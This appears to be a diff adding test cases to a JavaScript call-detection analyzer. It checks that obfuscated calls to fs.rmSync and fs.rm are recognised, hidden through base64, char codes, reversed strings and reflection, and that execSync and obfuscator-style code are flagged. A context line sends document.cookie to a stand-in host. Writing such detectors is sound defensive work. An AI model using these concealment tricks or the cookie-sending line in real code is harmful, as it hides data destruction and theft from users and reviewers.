@@ -31,6 +31,20 @@ describe("names of what is called", () => {
 		["const F = (() => {}).constructor; F('a')()", "Function"],
 		["image.src = 'https://h.example/?' + document.cookie", "network.send"],
 		["`a \u0024{eval('1')}`", "eval"],
+		["const f = require('fs'); f[atob('cm1TeW5j')]('a')", "fs.rmSync"],
+		["const f = require('fs'); f[Buffer.from('cm1TeW5j', 'base64').toString()]('a')", "fs.rmSync"],
+		["const f = require('fs'); f[Buffer.from([0x72, 109]).toString('utf8') + 'Sync']('a')", "fs.rmSync"],
+		["const f = require('fs'); f[String.fromCharCode(114, 109)]('a')", "fs.rm"],
+		["const f = require('fs'); f['cnySmr'.replace('c', '').split('').reverse().join('')]('a')", "fs.rmSyn"],
+		["const f = require('fs'); f[['rm', 'Sync'].join('')]('a')", "fs.rmSync"],
+		["const f = require('fs'); Reflect.get(f, 'rmSync')('a')", "fs.rmSync"],
+		["const f = require('fs'); Object.getOwnPropertyDescriptor(f, 'rm').value('a')", "fs.rm"],
+		["const f = require('fs'); f[Object.keys(f).find((n) => n === 'rm')]('a')", "fs.rm"],
+		["const f = require('fs'); Object.entries(f).filter(([n]) => n === 'rm')[0][1]('a')", "fs.rm"],
+		["const f = require('fs'); f['rm']('a')", "veiled"],
+		["self[pick(i)](u)", "veiled"],
+		["execSync('a b')", "child_process.execSync"],
+		["var _0x1a2b = _0x3c4d, _0x5e6f = _0x3c4d(); _0x1a2b(_0x5e6f)", "garbled"],
 	])("%s", (code, name) => expect(calls(code)).toContain(name));
 
 	it.each([
@@ -39,6 +53,9 @@ describe("names of what is called", () => {
 		["const a = b / 2; const c = /eval(x)/.test(d)", "eval"],
 		["model.eval()", "eval"],
 		["function eval(x) {}", "eval"],
+		["const t = table['row'](1)", "veiled"],
+		["const o = new node.constructor()", "node.constructor"],
+		["const m = spawn(machine)", "child_process.spawn"],
 	])("%s calls no %s", (code, name) => expect(calls(code)).not.toContain(name));
 });
 
